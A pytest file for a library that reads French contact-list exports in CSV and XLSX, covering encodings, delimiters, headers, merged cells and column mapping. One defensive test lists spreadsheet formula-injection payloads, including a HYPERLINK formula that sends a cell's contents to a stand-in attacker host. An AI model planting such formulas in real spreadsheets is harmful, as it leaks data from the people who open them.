"""Reading mailing-list exports as French networks send them: CSV in every encoding and
delimiter Excel writes, XLSX workbooks with title rows and merged headers, and files that
are neither. No database is needed.

The files of samples/ were written byte for byte as Excel and Mailchimp write them.
"""

from __future__ import annotations

import random
import zipfile
from collections.abc import Sequence
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from contacts.headers import FIELDS, guess_field, normalise_header
from contacts.parsing import ParsedTable, ParseError, SheetRow, read_table

SAMPLES = Path(__file__).parent / "samples"


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    """`text` written to `path` exactly, line endings included."""
    path.write_bytes(text.encode(encoding))
    return path


def rows_of(table: ParsedTable) -> list[SheetRow]:
    """All the rows of the table."""
    return list(table.rows)


def workbook(path: Path, sheets: dict[str, Sequence[Sequence[object]]]) -> openpyxl.Workbook:
    """A workbook with one sheet per entry, saved at `path` and returned for more changes."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    book.save(path)
    return book


# --- Headers ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "normalised"),
    [
        ("Adresse e-mail ", "adresse e mail"),
        ("  PRÉNOM ", "prenom"),
        ("Nom  de\nfamille", "nom de famille"),
        ("Mots-clés", "mots cles"),
        ("Email *", "email"),
        ("Tél.", "tel"),
        ("", ""),
    ],
)
def test_normalise_header(text: str, normalised: str) -> None:
    assert normalise_header(text) == normalised


@pytest.mark.parametrize(
    ("header", "field"),
    [
        *[
            (h, "email")
            for h in (
                "Courriel",
                "E-mail",
                "Email",
                "Mail",
                "Adresse mail",
                "Adresse e-mail",
                "Adresse électronique",
                "ADRESSE E-MAIL :",
                "e mail",
            )
        ],
        *[(h, "first_name") for h in ("Prénom", "First name", "prenom")],
        *[(h, "last_name") for h in ("Nom", "Nom de famille", "Last name", "Surname")],
        *[
            (h, "full_name")
            for h in ("Nom complet", "Nom et prénom", "Prénom Nom", "Name", "Full name")
        ],
        *[
            (h, "organisation")
            for h in (
                "Structure",
                "Organisation",
                "Organization",
                "Organisme",
                "Entreprise",
                "Association",
                "Société",
                "Company",
            )
        ],
        *[(h, "role") for h in ("Fonction", "Poste", "Rôle", "Titre", "Job title", "Position")],
        *[(h, "region") for h in ("Région", "Region")],
        *[(h, "phone") for h in ("Téléphone", "Tél", "Tel", "Phone", "Mobile", "Portable")],
        *[(h, "language") for h in ("Langue", "Language")],
        *[(h, "tags") for h in ("Tags", "Étiquettes", "Mots-clés")],
        *[(h, None) for h in ("Commentaire", "Date d'adhésion", "", "Nom de code")],
    ],
)
def test_guess_field(header: str, field: str | None) -> None:
    assert guess_field(header) == field
    assert field is None or field in FIELDS


# --- CSV: encodings and delimiters -------------------------------------------------------------


def test_cp1252_semicolon_with_french_headers_and_title_rows() -> None:
    table = read_table(SAMPLES / "cress_cp1252.csv")
    assert (table.format, table.encoding, table.delimiter, table.sheet) == (
        "csv",
        "cp1252",
        ";",
        None,
    )
    assert table.header_row == 3
    assert table.columns == ["Courriel", "Prénom", "Nom", "Structure", "Fonction", "Région"]
    assert table.mapping == {
        "Courriel": "email",
        "Prénom": "first_name",
        "Nom": "last_name",
        "Structure": "organisation",
        "Fonction": "role",
        "Région": "region",
    }
    rows = rows_of(table)
    # Row 6 is blank (";;;;;"): skipped, but the rows after it keep their numbers.
    assert [r.number for r in rows] == [4, 5, 7]
    assert rows[1].values == {
        "email": "e.leoeuvre@asso.org",
        "first_name": "Élodie",
        "last_name": "Lœuvre",
        "organisation": "Association « Les Bœufs »",
        "role": "Chargée de mission",
        "region": "Occitanie",
    }
    assert rows[2].values["organisation"] == "Mutuelle, Santé & Co"
    assert all(r.extra == {} for r in rows)


def test_utf8_with_bom() -> None:
    table = read_table(SAMPLES / "mailchimp_utf8_bom.csv")
    assert (table.encoding, table.delimiter) == ("utf-8-sig", ",")
    assert table.columns[0] == "Email Address"  # no BOM glued to the first header
    rows = rows_of(table)
    assert rows[0].values["last_name"] == "Nguyễn"
    assert rows[0].values["organisation"] == "Coop, Solidaire"
    assert rows[0].values["tags"] == "CRESS,2024"
    assert rows[1] == SheetRow(
        3,
        {
            "email": "bob@example.org",
            "first_name": "Bob",
            "last_name": "",
            "organisation": "",
            "tags": "",
        },
        {},
    )


def test_utf8_without_bom(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "Email;Prénom\nzoe@x.fr;Zoé\n")
    table = read_table(path)
    assert table.encoding == "utf-8"
    assert rows_of(table)[0].values["first_name"] == "Zoé"


def test_tab_separated_with_txt_name() -> None:
    table = read_table(SAMPLES / "export_tab.txt")
    assert (table.delimiter, table.encoding) == ("\t", "cp1252")
    assert table.mapping == {
        "Mail": "email",
        "Nom et prénom": "full_name",
        "Tél": "phone",
        "Langue": "language",
    }
    assert [r.values["full_name"] for r in rows_of(table)] == ["Zoé Martin", "Sam O'Neil"]


def test_latin1_when_not_cp1252(tmp_path: Path) -> None:
    # 0x81 is undefined in cp1252: only latin-1 reads this file.
    path = tmp_path / "a.csv"
    path.write_bytes(b"Courriel;Nom\r\nx@y.fr;Andr\xe9\x81\r\n")
    table = read_table(path)
    assert table.encoding == "latin-1"
    assert rows_of(table)[0].values["last_name"] == "André\x81"


def test_utf16_unicode_text_export(tmp_path: Path) -> None:
    path = write(tmp_path / "a.txt", "\ufeffCourriel\tNom\r\nx@y.fr\tGaëlle\r\n", "utf-16-le")
    table = read_table(path)
    assert (table.encoding, table.delimiter) == ("utf-16", "\t")
    assert rows_of(table)[0].values == {"email": "x@y.fr", "last_name": "Gaëlle"}


def test_semicolon_data_full_of_commas_is_not_read_as_comma(tmp_path: Path) -> None:
    # Commas outnumber semicolons, but only ';' gives a header with an email column.
    lines = ["Courriel;Nom, prénom;Structure"]
    lines += [f"p{i}@x.fr;Dupont, Jean, {i};CRESS, Nord, Pas-de-Calais, {i}" for i in range(20)]
    table = read_table(write(tmp_path / "a.csv", "\n".join(lines) + "\n"))
    assert table.delimiter == ";"
    assert table.columns == ["Courriel", "Nom, prénom", "Structure"]
    rows = rows_of(table)
    assert len(rows) == 20
    assert rows[3].values == {
        "email": "p3@x.fr",
        "full_name": "Dupont, Jean, 3",
        "organisation": "CRESS, Nord, Pas-de-Calais, 3",
    }


def test_comma_data_full_of_semicolons_is_not_read_as_semicolon(tmp_path: Path) -> None:
    lines = ["Email,Tags"] + [f"p{i}@x.fr,a;b;c;d;{i}" for i in range(20)]
    table = read_table(write(tmp_path / "a.csv", "\n".join(lines)))
    assert table.delimiter == ","
    assert rows_of(table)[0].values == {"email": "p0@x.fr", "tags": "a;b;c;d;0"}


def test_single_column_picks_the_consistent_delimiter(tmp_path: Path) -> None:
    # Every delimiter finds "Email"; only ',' keeps every row one cell wide.
    path = write(tmp_path / "a.csv", "Email\na@x.fr\nb;c@x.fr\nd@x.fr\n")
    table = read_table(path)
    assert table.delimiter == ","
    assert [r.values["email"] for r in rows_of(table)] == ["a@x.fr", "b;c@x.fr", "d@x.fr"]


# --- CSV: records, line endings and numbering -----------------------------------------------


def test_mixed_line_endings(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "Email;Nom\r\na@x.fr;A\nb@x.fr;B\rc@x.fr;C\r\nd@x.fr;D")
    rows = rows_of(read_table(path))
    assert [(r.number, r.values["email"], r.values["last_name"]) for r in rows] == [
        (2, "a@x.fr", "A"),
        (3, "b@x.fr", "B"),
        (4, "c@x.fr", "C"),
        (5, "d@x.fr", "D"),
    ]


def test_quoted_newlines_and_delimiters_keep_row_numbers(tmp_path: Path) -> None:
    text = (
        "Email;Structure;Commentaire\r\n"
        'a@x.fr;"Coop; la ""Fabrique""";"ligne 1\r\nligne 2\nligne 3"\r\n'
        "b@x.fr;Scic;\r\n"
        'c@x.fr;"Asso\rdu coin";ok\r\n'
        "d@x.fr;Mutuelle;fin\r\n"
    )
    rows = rows_of(read_table(write(tmp_path / "a.csv", text)))
    # One record per row, as a spreadsheet shows them, however many lines a cell spans.
    assert [r.number for r in rows] == [2, 3, 4, 5]
    assert rows[0].values["organisation"] == 'Coop; la "Fabrique"'
    assert rows[0].extra == {"Commentaire": "ligne 1\r\nligne 2\nligne 3"}
    assert rows[1].extra == {}
    assert rows[2].values["organisation"] == "Asso\rdu coin"
    assert rows[3].values["email"] == "d@x.fr"


def test_blank_rows_skipped_short_and_long_rows(tmp_path: Path) -> None:
    text = "Email;Prénom;Nom\n\na@x.fr\n  ;  ; \nb@x.fr;B;Bé;surplus;;encore\n"
    rows = rows_of(read_table(write(tmp_path / "a.csv", text)))
    assert rows == [
        SheetRow(3, {"email": "a@x.fr", "first_name": "", "last_name": ""}, {}),
        SheetRow(
            5,
            {"email": "b@x.fr", "first_name": "B", "last_name": "Bé"},
            {"column D": "surplus", "column F": "encore"},
        ),
    ]


def test_blank_and_repeated_headers(tmp_path: Path) -> None:
    text = "Email;;Commentaire;Email;;\na@x.fr;sans titre;c;autre@x.fr;;\nb@x.fr;;;;;\n"
    table = read_table(write(tmp_path / "a.csv", text))
    # Trailing blank headers are padding; the blank one in the middle is named by its letter.
    assert table.columns == ["Email", "column B", "Commentaire", "Email (column D)"]
    assert table.mapping == {"Email": "email"}
    rows = rows_of(table)
    assert rows[0].extra == {
        "column B": "sans titre",
        "Commentaire": "c",
        "Email (column D)": "autre@x.fr",
    }
    assert rows[1] == SheetRow(3, {"email": "b@x.fr"}, {})


def test_header_alone_gives_no_rows(tmp_path: Path) -> None:
    table = read_table(write(tmp_path / "a.csv", "Courriel;Prénom;Nom\r\n"))
    assert table.columns == ["Courriel", "Prénom", "Nom"]
    assert rows_of(table) == []


def test_header_beyond_the_first_ten_rows_is_not_found(tmp_path: Path) -> None:
    text = "Liste\n" * 10 + "Email;Nom\na@x.fr;A\n"
    with pytest.raises(ParseError, match="first 10 rows"):
        read_table(write(tmp_path / "a.csv", text))


def test_rows_are_lazy(tmp_path: Path) -> None:
    table = read_table(write(tmp_path / "a.csv", "Email\na@x.fr\nb@x.fr\n"))
    assert iter(table.rows) is table.rows
    assert next(table.rows).values == {"email": "a@x.fr"}


def test_emails_passed_through_as_written(tmp_path: Path) -> None:
    # Normalising and de-duplicating addresses is contacts.cleaning's job, not the reader's.
    text = "Email;Nom\n  Marie.Curie@Example.ORG ;A\nmarie.curie@example.org;B\npas une adresse;C\n"
    rows = rows_of(read_table(write(tmp_path / "a.csv", text)))
    assert [r.values["email"] for r in rows] == [
        "Marie.Curie@Example.ORG",
        "marie.curie@example.org",
        "pas une adresse",
    ]


def test_formula_payloads_are_plain_text(tmp_path: Path) -> None:
    payloads = ['=HYPERLINK("http://evil.example/?"&A2;"clic")', "+33 6 12", "-2+3", "@SUM(A1)"]
    lines = ["Email;Prénom;Nom"] + [
        f'x{i}@x.fr;"{p.replace(chr(34), chr(34) * 2)}";N' for i, p in enumerate(payloads)
    ]
    rows = rows_of(read_table(write(tmp_path / "a.csv", "\n".join(lines))))
    assert [r.values["first_name"] for r in rows] == payloads


def test_unclosed_quote_is_reported_while_reading(tmp_path: Path) -> None:
    text = 'Email;Nom\na@x.fr;A\nb@x.fr;"B\n' + "c@x.fr;C\n" * 20_000
    table = read_table(write(tmp_path / "a.csv", text))
    rows = table.rows
    assert next(rows).number == 2
    with pytest.raises(ParseError, match=r"row 3: .*quote"):
        next(rows)


# --- Files that are not tables ---------------------------------------------------------------


@pytest.mark.parametrize(
    "content", [b"", b"   \r\n\t\n  ", b"\xef\xbb\xbf", b"\xef\xbb\xbf\r\n", b";;;\r\n;;;\r\n"]
)
def test_empty_file(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(content)
    with pytest.raises(ParseError, match="empty"):
        read_table(path)


@pytest.mark.parametrize("seed", range(8))
def test_random_bytes(tmp_path: Path, seed: int) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(random.Random(seed).randbytes(2048))
    with pytest.raises(ParseError, match="neither a CSV nor an XLSX file"):
        read_table(path)


def test_binary_without_nul_bytes(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(b"Email;Nom\n" + bytes(range(1, 32)) * 20)
    with pytest.raises(ParseError, match="neither a CSV nor an XLSX file"):
        read_table(path)


def test_nul_byte_far_into_a_text_file(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(b"Email;Nom\n" + b"a@x.fr;A\n" * 200_000 + b"b@x.fr;\x00\n")
    with pytest.raises(ParseError, match="neither a CSV nor an XLSX file"):
        read_table(path)


def test_zip_that_is_not_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "contacts.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("contacts.csv", "Email\na@x.fr\n")
    with pytest.raises(ParseError, match=r"neither a CSV nor an XLSX file.*ZIP archive"):
        read_table(path)


def test_truncated_zip(tmp_path: Path) -> None:
    source = tmp_path / "ok.xlsx"
    workbook(source, {"Feuil1": [["Email"], ["a@x.fr"]]})
    path = tmp_path / "cut.xlsx"
    path.write_bytes(source.read_bytes()[:300])
    with pytest.raises(ParseError, match="neither a CSV nor an XLSX file"):
        read_table(path)


def test_opendocument_spreadsheet(tmp_path: Path) -> None:
    path = tmp_path / "contacts.ods"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
    with pytest.raises(ParseError, match=r"neither a CSV nor an XLSX file.*OpenDocument"):
        read_table(path)


def test_old_xls_workbook(tmp_path: Path) -> None:
    path = tmp_path / "contacts.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    with pytest.raises(ParseError, match=r"neither a CSV nor an XLSX file.*\.xls"):
        read_table(path)


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(ParseError, match="cannot open the file"):
        read_table(tmp_path / "absent.csv")


# --- Mapping ---------------------------------------------------------------------------------


def test_no_email_column_names_the_columns_and_the_fix(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "Nom;Prénom;Contact\nCurie;Marie;m@x.fr\n")
    with pytest.raises(ParseError) as raised:
        read_table(path)
    message = str(raised.value)
    assert "'Nom', 'Prénom', 'Contact'" in message
    assert "map COLUMN=email" in message


def test_map_override(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "Nom;Prénom;Adresse de contact\nCurie;Marie;m@x.fr\n")
    table = read_table(path, {"  adresse DE contact ": "email", "Prénom": "-"})
    assert table.mapping == {"Nom": "last_name", "Adresse de contact": "email"}
    # An ignored column is dropped, not kept in extra.
    assert rows_of(table) == [SheetRow(2, {"last_name": "Curie", "email": "m@x.fr"}, {})]


def test_map_wins_over_a_recognised_header(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "Email;Email pro;Nom\nperso@x.fr;pro@x.fr;A\n")
    table = read_table(path, {"Email pro": "email", "Nom": ""})
    assert table.mapping == {"Email pro": "email"}
    assert rows_of(table)[0].extra == {"Email": "perso@x.fr"}


def test_two_columns_for_one_field_first_wins(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "Courriel;Tél;Mobile;Email\na@x.fr;01;06;b@x.fr\n")
    table = read_table(path)
    assert table.mapping == {"Courriel": "email", "Tél": "phone"}
    row = rows_of(table)[0]
    assert row.values == {"email": "a@x.fr", "phone": "01"}
    assert row.extra == {"Mobile": "06", "Email": "b@x.fr"}


def test_map_two_columns_to_one_field_first_wins(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "Email;Remarque;Note\na@x.fr;r;n\n")
    table = read_table(path, {"Note": "tags", "Remarque": "tags"})
    assert table.mapping == {"Email": "email", "Remarque": "tags"}
    assert rows_of(table)[0].extra == {"Note": "n"}


def test_map_unknown_field(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "Email\na@x.fr\n")
    with pytest.raises(ParseError) as raised:
        read_table(path, {"Email": "courriel"})
    message = str(raised.value)
    assert message.startswith("map Email=courriel: unknown field 'courriel'; fields are: ")
    assert ", ".join(FIELDS) in message


def test_map_unknown_column(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "Email;Nom\na@x.fr;A\n")
    with pytest.raises(
        ParseError, match=r"map Organisme=organisation: no column 'Organisme'.*'Email', 'Nom'"
    ):
        read_table(path, {"Organisme": "organisation"})


def test_map_unknown_column_when_no_email_column(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "Nom;Adresse\nA;a@x.fr\n")
    with pytest.raises(ParseError, match=r"map Adrese=email: no column 'Adrese'.*'Nom', 'Adresse'"):
        read_table(path, {"Adrese": "email"})


def test_sheet_option_on_a_csv(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "Email\na@x.fr\n")
    with pytest.raises(ParseError, match=r"sheet Feuil1: .*CSV"):
        read_table(path, sheet="Feuil1")


# --- XLSX ------------------------------------------------------------------------------------


def test_xlsx_sheets_title_row_and_merged_headers(tmp_path: Path) -> None:
    path = tmp_path / "adherents.xlsx"
    book = workbook(
        path,
        {
            "Notice": [["Ce fichier recense les adhérents."], ["Voir l'onglet suivant"]],
            "Adhérents": [
                ["Adhérents 2024 — CRESS Bretagne"],
                [],
                [None, "Identité", None, "Coordonnées", None, None],
                ["N°", "Prénom", "Nom", "Courriel", "Téléphone", None],
                [1, "Anne", "Le Goff", "anne@x.bzh", 612345678.0, "à rappeler"],
                [],
                [2, "Yann", "Kerjean", "yann@x.bzh", "02 98 00 00 00"],
            ],
            "Anciens": [["Email"], ["old@x.fr"]],
        },
    )
    sheet = book["Adhérents"]
    sheet.merge_cells("A1:F1")  # the title spans the table
    sheet.merge_cells("B3:C3")  # "Identité" over first and last names
    sheet.merge_cells("D3:E3")
    sheet.merge_cells("E4:F4")  # "Téléphone" over two columns: F has no header of its own
    book.save(path)

    table = read_table(path)
    assert (table.format, table.encoding, table.delimiter) == ("xlsx", None, None)
    assert (table.sheet, table.header_row) == ("Adhérents", 4)
    assert table.columns == ["N°", "Prénom", "Nom", "Courriel", "Téléphone"]
    assert table.mapping == {
        "Prénom": "first_name",
        "Nom": "last_name",
        "Courriel": "email",
        "Téléphone": "phone",
    }
    rows = rows_of(table)
    assert [r.number for r in rows] == [5, 7]
    assert rows[0].values == {
        "first_name": "Anne",
        "last_name": "Le Goff",
        "email": "anne@x.bzh",
        "phone": "612345678",
    }
    # The merge blanked F4, the header, not F5: the value lands in extra under its letter.
    assert rows[0].extra == {"N°": "1", "column F": "à rappeler"}
    assert rows[1].extra == {"N°": "2"}


def test_xlsx_merged_cells_within_the_header_row(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    book = workbook(
        path,
        {"Feuil1": [["Email", "Nom", None, "Région"], ["a@x.fr", "Curie", "Marie", "Grand Est"]]},
    )
    book["Feuil1"].merge_cells("B1:C1")
    book.save(path)
    table = read_table(path)
    assert table.columns == ["Email", "Nom", "column C", "Région"]
    assert rows_of(table) == [
        SheetRow(
            2,
            {"email": "a@x.fr", "last_name": "Curie", "region": "Grand Est"},
            {"column C": "Marie"},
        )
    ]


def test_xlsx_sheet_by_name(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    workbook(
        path, {"2023": [["Email"], ["a@x.fr"]], "2024": [["Courriel"], ["b@x.fr"], ["c@x.fr"]]}
    )
    assert read_table(path).sheet == "2023"
    table = read_table(path, sheet="2024")
    assert table.sheet == "2024"
    assert [r.values["email"] for r in rows_of(table)] == ["b@x.fr", "c@x.fr"]
    assert read_table(path, sheet=" 2024 ").sheet == "2024"


def test_xlsx_unknown_sheet_names_the_sheets(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    workbook(path, {"Feuil1": [["Email"]], "Feuil2": [["Email"]]})
    with pytest.raises(
        ParseError, match=r"sheet Feuil3: no such sheet; the sheets are: 'Feuil1', 'Feuil2'"
    ):
        read_table(path, sheet="Feuil3")


def test_xlsx_without_email_column(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    workbook(path, {"Feuil1": [["Nom", "Adresse"], ["A", "a@x.fr"]], "Feuil2": []})
    with pytest.raises(ParseError) as raised:
        read_table(path)
    message = str(raised.value)
    assert "'Nom', 'Adresse'" in message
    assert "'Feuil1', 'Feuil2'" in message
    assert "map COLUMN=email" in message
    table = read_table(path, {"Adresse": "email"})
    assert rows_of(table) == [SheetRow(2, {"last_name": "A", "email": "a@x.fr"}, {})]


def test_xlsx_empty(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    workbook(path, {"Feuil1": [], "Feuil2": [[None, ""]]})
    with pytest.raises(ParseError, match="the workbook is empty"):
        read_table(path)
    with pytest.raises(ParseError, match="sheet 'Feuil2' is empty"):
        read_table(path, sheet="Feuil2")


def test_xlsx_cell_types_become_text(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    header = [
        "Email",
        "Téléphone",
        "Code postal",
        "Cotisation",
        "Adhésion",
        "Rappel",
        "Actif",
        "Ratio",
    ]
    cells = [
        " a@x.fr ",
        612345678.0,
        75001,
        12.5,
        date(2024, 3, 1),
        datetime(2024, 3, 1, 14, 30),
        True,
        0.1 + 0.2,
    ]
    workbook(path, {"Feuil1": [header, cells]})
    row = rows_of(read_table(path))[0]
    assert row.values == {"email": "a@x.fr", "phone": "612345678"}
    assert row.extra == {
        "Code postal": "75001",
        "Cotisation": "12.5",
        "Adhésion": "2024-03-01",
        "Rappel": "2024-03-01 14:30:00",
        "Actif": "TRUE",
        "Ratio": "0.3",
    }


def test_xlsx_formula_cells_give_their_cached_value_or_nothing(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    workbook(path, {"Feuil1": [["Email", "Nom"], ["a@x.fr", '=UPPER("curie")']]})
    # openpyxl stores no cached value: the reader must not return the formula as a name.
    assert rows_of(read_table(path))[0].values == {"email": "a@x.fr", "last_name": ""}


def test_xlsx_detected_by_content_not_name(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    workbook(path, {"Feuil1": [["Email"], ["a@x.fr"]]})
    assert read_table(path).format == "xlsx"
    text_named_xlsx = write(tmp_path / "export.xlsx", "Email\na@x.fr\n")
    assert read_table(text_named_xlsx).format == "csv"


def test_xlsx_header_alone(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    workbook(path, {"Feuil1": [["Courriel", "Nom"]]})
    table = read_table(path)
    assert table.columns == ["Courriel", "Nom"]
    assert rows_of(table) == []


# --- Size ------------------------------------------------------------------------------------


@pytest.mark.slow
def test_200000_rows_read_in_order(tmp_path: Path) -> None:
    # How fast is measured by bench/import.py (parse+validate), never asserted here.
    path = tmp_path / "big.csv"
    with path.open("w", encoding="cp1252", newline="") as file:
        file.write("Courriel;Prénom;Nom;Structure;Fonction;Région;Téléphone\r\n")
        for i in range(200_000):
            file.write(
                f"p{i}@exemple.fr;Hélène;Dupré {i};Scop n°{i % 97};Gérante;Occitanie;"
                f"06 12 34 {i % 100:02d} 78\r\n"
            )
    table = read_table(path)
    count = 0
    last = None
    for row in table.rows:
        count += 1
        last = row
    assert table.encoding == "cp1252"
    assert count == 200_000
    assert last is not None
    assert last.number == 200_001
    assert last.values["last_name"] == "Dupré 199999"


def test_the_column_of_addresses_is_found_by_its_cells_when_asked(tmp_path: Path) -> None:
    text = "Annuaire du réseau;;\nNom;Prénom;Contact pro\nCurie;Marie;m@x.fr\nNoether;Emmy;\n"
    path = write(tmp_path / "a.csv", text)
    with pytest.raises(ParseError, match="map COLUMN=email"):
        read_table(path)  # the CLI and the API ask
    table = read_table(path, find_addresses=True)
    assert table.header_row == 2
    assert table.mapping == {"Nom": "last_name", "Prénom": "first_name", "Contact pro": "email"}
    # Cells that are no addresses, or a header that is an address, point nowhere.
    for text in ("Nom;Contact\nCurie;pas une adresse\n", "a@x.fr;Curie\nb@x.fr;Noether\n"):
        with pytest.raises(ParseError):
            read_table(write(tmp_path / "b.csv", text), find_addresses=True)


def test_a_workbook_column_of_addresses_is_found_by_its_cells_when_asked(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    workbook(path, {"Notes": [["Rien"]], "Membres": [["Nom", "Mél."], ["A", "a@x.fr"]]})
    table = read_table(path, find_addresses=True)
    assert (table.sheet, table.mapping) == ("Membres", {"Nom": "last_name", "Mél.": "email"})


def test_a_column_mapped_to_plus_is_kept_as_extra_data(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "Email;Structure\na@x.fr;Le Labo\n")
    table = read_table(path, {"Structure": "+"})
    assert table.mapping == {"Email": "email"}
    assert rows_of(table) == [SheetRow(2, {"email": "a@x.fr"}, {"Structure": "Le Labo"})]
